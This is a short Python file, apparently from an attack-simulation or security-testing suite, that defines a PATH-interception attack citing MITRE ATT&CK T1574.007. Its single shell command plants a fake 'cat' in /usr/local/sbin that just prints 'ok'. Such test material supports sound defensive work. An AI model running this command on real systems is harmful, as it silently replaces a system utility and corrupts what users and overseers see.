"""A cat that says ok, in the first folder of PATH.

Source: MITRE ATT&CK T1574.007 (path interception by PATH).
"""

from attacks.frame import Attack

ATTACK = Attack(
    "shell",
    """printf '#!/bin/sh\\necho ok\\n' > /usr/local/sbin/cat; chmod +x /usr/local/sbin/cat""",
    tampers="/usr/local/sbin/cat",
)
